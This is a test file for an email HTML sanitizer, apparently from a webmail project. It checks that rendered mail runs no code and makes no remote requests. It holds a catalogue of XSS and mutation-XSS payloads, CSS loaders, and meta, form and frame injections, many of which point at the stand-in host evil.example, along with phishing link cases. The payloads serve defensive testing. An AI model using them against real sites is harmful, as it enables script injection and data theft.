import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Element, Root } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { corpus } from '../testing/corpus.ts';
import { renderOriginal } from './render-original.ts';

/** Renders a mail with this HTML, this plain text and the parts of `more`. */
const render = (markup: string, { more = '', showsRemotePictures = false, text = '' } = {}) => {
  const part = (type: string, content: string) => `--b\r\nContent-Type: ${type}; charset=utf-8\r\n\r\n${content}\r\n`;
  const parts = `${text === '' ? '' : part('text/plain', text)}${part('text/html', markup)}${more}--b--\r\n`;
  const mail = `From: a@b.example\r\nContent-Type: multipart/${text === '' ? 'related' : 'alternative'}; boundary=b\r\n\r\n${parts}`;
  return renderOriginal(new Uint8Array(Buffer.from(mail)), { showsRemotePictures });
};

const parser = unified().use(rehypeParse);

/** Lists all elements of a document as a browser reads it. */
const listElements = (markup: string): Element[] => {
  const walk = (node: Root | Element): Element[] =>
    node.children.flatMap(child => (child.type === 'element' ? [child, ...walk(child)] : []));
  return walk(parser.parse(markup));
};

/** The only elements and attributes that a document may have. None of them runs code. */
const harmlessElement =
  /^(?:html|head|meta|style|body|a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/;
const harmlessAttribute =
  /^(?:align|alt|bgColor|border|cellPadding|cellSpacing|charSet|className|colSpan|color|content|dir|face|height|hidden|hSpace|href|id|lang|media|name|noWrap|rel|rowSpan|size|span|src|start|style|target|text|title|type|vAlign|value|vSpace|width)$/;

const expectHarmless = (markup: string, name: string): void => {
  for (const { tagName, properties, children } of listElements(markup)) {
    assert.match(tagName, harmlessElement, name);
    for (const [attribute, value] of Object.entries(properties)) {
      assert.match(attribute, harmlessAttribute, `${tagName} of ${name}`);
      if (attribute === 'src') assert.match(String(value), /^data:image\/(?:png|jpeg|gif|webp);base64,/, name);
      if (attribute === 'href') assert.match(String(value), /^(?:https?:|mailto:|tel:|#)/, name);
      if (attribute === 'style') expectHarmlessCss(String(value), name);
    }
    if (tagName === 'meta') assert.equal('httpEquiv' in properties, false, name);
    if (tagName === 'style') for (const child of children) expectHarmlessCss('value' in child ? child.value : '', name);
  }
};

const expectHarmlessCss = (css: string, name: string): void =>
  assert.doesNotMatch(css, /url\s*\(|image-set\s*\(|expression\s*\(|@import|@font-face|\\|<|javascript/i, name);

/** Markup of attacks. `x()` must not run, and `evil.example` must get no request. */
const hostile: Record<string, string> = {
  script: '<script>x()</script><SCRIPT SRC=//evil.example/a.js></SCRIPT><scr<script>ipt>x()</script>',
  'event handlers': '<img src=x onerror=x()><body onload=x()><p onclick="x()" ONMOUSEOVER=x()>a</p><a/onclick=x()>b',
  'a script URL': '<a href="javascript:x()">a</a><a href=" java\tscript:x()">b</a><a href="&#106;avascript:x()">c</a>',
  'a data URL': '<a href="data:text/html,<script>x()</script>">a</a><img src="data:image/svg+xml,<svg onload=x()>">',
  svg: '<svg><script>x()</script><animate onbegin=x()><a xlink:href="javascript:x()"><text>a</text></a></svg><svg/onload=x()>',
  math: '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:x()">a</maction></math>',
  meta: '<meta http-equiv=refresh content="0;url=https://evil.example"><meta http-equiv="Set-Cookie" content="a=b">',
  base: '<base href="https://evil.example/"><a href="/b">a</a><img src="c.png">',
  form: '<form action="https://evil.example"><input name=a><button formaction="javascript:x()">b</button></form>',
  frames:
    '<iframe src="https://evil.example" srcdoc="<script>x()</script>"></iframe><frameset><frame src=//evil.example></frameset>',
  objects:
    '<object data="https://evil.example"></object><embed src="https://evil.example/a.swf"><applet code=a></applet>',
  media:
    '<video src="https://evil.example" onerror=x()></video><audio><source src="https://evil.example"></audio><picture><source srcset="https://evil.example/a"></picture>',
  links: '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example">',
  'other attributes with URLs':
    '<img srcset="https://evil.example/a 2x" lowsrc="https://evil.example" dynsrc="https://evil.example"><a ping="https://evil.example" href="#a">a</a><q cite="javascript:x()">q</q><del cite="https://evil.example">d</del>',
  'CSS that loads':
    '<p style="background:url(https://evil.example/a)">a</p><p style="background:u\\72l(https://evil.example)">b</p><p style="background:u/**/rl(\'//evil.example\')">c</p><p style="background-image:-webkit-image-set(\'https://evil.example\' 1x)">d</p><p style="width:expression(x())">e</p><p style="-moz-binding:url(//evil.example)">f</p>',
  'a style element that loads':
    '<style><!-- @import "https://evil.example"; @IMPORT url(//evil.example); @\\69mport "a"; p{background:URL(https://evil.example)} @font-face{src:url(//evil.example)} --></style><style>p{color:red}</style>',
  'style elements with attributes that load': [
    'class="a"',
    'id=a',
    'title=">"',
    'lang=en dir=ltr',
    'media',
    'media=""',
    'media=">" class=a',
    'MEDIA=print hidden',
    'style="a" background="https://evil.example/"',
    "media='\"' width=1",
  ]
    .map(
      attributes =>
        `<style ${attributes}>@import "https://evil.example"; p{background:url(https://evil.example)}</style>`,
    )
    .join(''),
  'a style element without an end': '<style class=a>p{background:url(https://evil.example)}',
  'a style element that ends early':
    '<style>a{}<\\/style><img src=x onerror=x()></style><style><style></style><img src=x onerror=x()>',
  'nested comments':
    '<!--><script>x()</script>--><!-- <!-- --> <script>x()</script> --><!--[if IE]><script>x()</script><![endif]--><![if !IE]><script>x()</script><![endif]>',
  'an unclosed comment': '<p>a</p><!-- <img src=x onerror=x()>',
  'an unclosed attribute': '<img src="x onerror=x() alt=\'"><script>x()</script>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
  'mutation by a style in svg': '<svg></p><style><a id="</style><img src=1 onerror=x()>">',
  'mutation by math and mglyph': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>',
  'mutation by a table in math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=x()>"></xmp><listing>&lt;img onerror=x()&gt;</listing>',
  'mutation by a text area':
    '<textarea><p title="</textarea><img src=x onerror=x()>"></textarea><title><img src=x onerror=x()></title>',
  'mutation by a template':
    '<template><img src=x onerror=x()></template><select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=x()>">',
  'mutation by plaintext': '<plaintext><script>x()</script>',
  'NUL characters': '<scr\0ipt>x()</scr\0ipt><img s\0rc=x on\0error=x()><a href="java\0script:x()">a</a>',
  'processing instructions':
    '<?xml-stylesheet href="javascript:x()"?><?php x() ?><!DOCTYPE html SYSTEM "https://evil.example"><![CDATA[<script>x()</script>]]>',
  'escaped markup': '&lt;script&gt;x()&lt;/script&gt;<p title="&quot;&gt;&lt;script&gt;x()&lt;/script&gt;">a</p>',
  'deep nesting': `${'<div>'.repeat(3000)}<script>x()</script>`,
};

describe('hostile HTML', () => {
  for (const [name, markup] of Object.entries(hostile))
    it(`runs and loads nothing: ${name}`, async () => expectHarmless((await render(markup)).html, name));
});

describe('the HTML of a mail', () => {
  const body = async (markup: string, options = {}) => {
    const { html } = await render(markup, options);
    return html.slice(html.indexOf('</style>\n') + 9).trim();
  };

  it('keeps layout and styles', async () => {
    assert.equal(
      await body(
        '<table bgcolor="#eee" width="600"><tr><td style="color: red; padding:4px">Hi <b>you</b></td></tr></table>',
      ),
      '<table bgcolor="#eee" width="600"><tr><td style="color: red; padding:4px">Hi <b>you</b></td></tr></table>',
    );
    assert.match(
      await body('<head><style media="print">p > b{color:red}</style></head>'),
      /^<style media="print">p > b\{color:red\}<\/style>/,
    );
  });

  it('opens links in a new window, and shows the host of a link whose text names a different host', async () => {
    const link = (href: string, text: string) => body(`<a href="${href}" target="_top" rel="opener">${text}</a>`);
    assert.equal(
      await link('https://shop.example/a?b=1&amp;c', 'Our shop'),
      '<a href="https://shop.example/a?b=1&amp;c" target="_blank" rel="noopener noreferrer">Our shop</a>',
    );
    for (const [href, text] of [
      ['https://evil.example/x', 'https://bank.example/login'],
      ['https://evil.example', 'Go to <b>www.bank</b>.example now'],
      ['https://evil.example', 'bank&#8203;.example'],
      ['https://evil.example', 'bänk.example'],
      ['http://evil.example:81', 'evil.example.bank.example'],
    ] as const)
      assert.match(await link(href, text), /<\/a> \[evil\.example(?::81)?\]$/, text);
    for (const text of [
      'shop.example',
      'https://www.shop.example/a',
      'SHOP.example',
      'offer.pdf',
      '3.14',
      'Read more...',
    ])
      assert.match(await link('https://shop.example', text), /<\/a>$/, text);
    assert.equal(await body('<a href="#top">Top</a><a href="/x">b</a>'), '<a href="#top">Top</a><a>b</a>');
  });

  it('counts pictures of other servers once each, and shows them only on request', async () => {
    const markup =
      '<img src="https://cdn.example/a.png" alt="A"><img src=" http://cdn.example/a.png"><img src="//cdn.example/b.gif"><table background="https://cdn.example/c.png"></table><img src="relative.png">';
    const blocked = await render(markup);
    assert.equal(blocked.remotePictures, 3);
    assert.doesNotMatch(blocked.html, /cdn\.example/);
    expectHarmless(blocked.html, 'remote pictures');
    const shown = await render(markup, { showsRemotePictures: true });
    assert.equal(shown.remotePictures, 3);
    assert.deepEqual(
      new Set(shown.html.match(/https?:\/\/cdn\.example[^"]*/g)),
      new Set(['https://cdn.example/a.png', 'https://cdn.example/b.gif', 'https://cdn.example/c.png']),
    );
  });

  const picture = (id: string, type: string, bytes: string) =>
    `--b\r\nContent-Type: ${type}\r\nContent-ID: <${id}>\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(bytes).toString('base64')}\r\n`;

  it('contains the pictures that the mail carries, up to 2 MB', async () => {
    const large = 'x'.repeat(1_500_000);
    const more = `${picture('a b@c', 'image/png', 'A')}${picture('svg', 'image/svg+xml', '<svg/>')}${picture('1', 'image/gif', large)}${picture('2', 'image/gif', large)}`;
    const markup =
      '<img src="cid:a%20b@c"><img src="cid:svg"><img src="cid:none"><img src="cid:1"><img src="cid:2"><img src="data:image/png;base64,QQ==">';
    const { html } = await render(markup, { more });
    const sources = listElements(html).flatMap(({ tagName, properties }) =>
      tagName === 'img' ? [String(properties['src'] ?? '').slice(0, 26)] : [],
    );
    assert.deepEqual(sources, [
      'data:image/png;base64,QQ==',
      '',
      '',
      'data:image/gif;base64,eHh4',
      '',
      'data:image/png;base64,QQ==',
    ]);
    expectHarmless(html, 'pictures');
  });

  it('contains the pictures of its data URLs, short and long', async () => {
    const long = 'QUJD'.repeat(400_000);
    const folded = long.replaceAll(/.{76}/g, '$&\n');
    for (const [source, expected] of [
      ['"data:image/png;base64,QQ=="', 'data:image/png;base64,QQ=='],
      ['data:image/png;base64,QQ==', 'data:image/png;base64,QQ=='],
      ["' data:IMAGE/PNG;base64,Q\nQ=='", 'data:image/png;base64,QQ=='],
      [`"data:image/png;base64,${long}"`, `data:image/png;base64,${long}`],
      [`'data:image/png;base64,${folded}'`, `data:image/png;base64,${long}`],
    ] as const)
      assert.equal(await body(`<img src=${source} alt="A">`), `<img alt="A" src="${expected}" />`);
    assert.match(await body(`<p style="background:url(&quot;data:image/png;base64,${long}&quot;)">a</p>`), />a<\/p>$/);
    assert.doesNotMatch(await body(`<style>p{background:url(data:image/png;base64,${long})}</style>`), /longer than/);
  });

  it('leaves text that contains data URLs unchanged', async () => {
    for (const text of [
      'data:image/png;base64,AAAA more words',
      'See ="data:image/png;base64,AAAA more words" and url(data:image/png;base64,AAAA more) words',
      `data:image/png;base64,AAAA ${'more words '.repeat(200)}end`,
    ])
      assert.equal(await body(`<p>${text}</p>`), `<p>${text}</p>`);
  });

  it('is rendered in linear time, even with large pictures or hostile markup', async () => {
    /** Returns the CPU time in microseconds, which other processes do not change. `size` scales the inputs. */
    const measure = async (size: number): Promise<number> => {
      const start = process.cpuUsage();
      for (const part of ['url( ', `="data:image/png;base64,${'A'.repeat(900)} `, '= ', 'url('])
        await render(part + ' '.repeat(250_000 * size) + part.repeat(1_000 * size));
      for (const end of ['"', '<', '"><p>a</p>'])
        await render(`<img src="data:image/png;base64,${'A'.repeat(10_000_000 * size)}${end}`);
      const { user, system } = process.cpuUsage(start);
      return user + system;
    };
    const [one, two] = [await measure(1), await measure(2)];
    assert.ok(two < 3 * one, `quadratic time would be 4 times: ${one} and ${two} µs`);
  });

  it('is replaced by the plain text of the mail if the HTML is missing or longer than 1 MB', async () => {
    const { html } = await renderOriginal(new Uint8Array(Buffer.from('From: a@b.example\r\n\r\n<b>1 < 2</b>\r\n')), {
      showsRemotePictures: false,
    });
    assert.match(html, /<pre>&lt;b&gt;1 &lt; 2&lt;\/b&gt;\s*<\/pre>/);
    const long = await render(`<p>${'a'.repeat(1024 * 1024)}</p>`, { text: 'The text' });
    assert.match(long.html.slice(-200), /longer than 1 MB\..*<pre>The text\s*<\/pre>/);
    assert.match((await render('', { text: ' ' })).html, /This email has no text\./);
  });
});

describe('the mails of the corpus', () => {
  it('become documents that run nothing and load nothing', async () => {
    let documents = 0;
    for (const { name, bytes } of corpus) {
      const rendered = await renderOriginal(new Uint8Array(bytes), { showsRemotePictures: false }).catch(() => null);
      if (rendered === null) continue;
      documents++;
      expectHarmless(rendered.html, name);
      assert.doesNotMatch(rendered.html, /<(?:img|table|td|body)[^>]*(?:src|background)="(?!data:)/, name);
    }
    assert.ok(documents > 100, `${documents} documents`);
  });
});
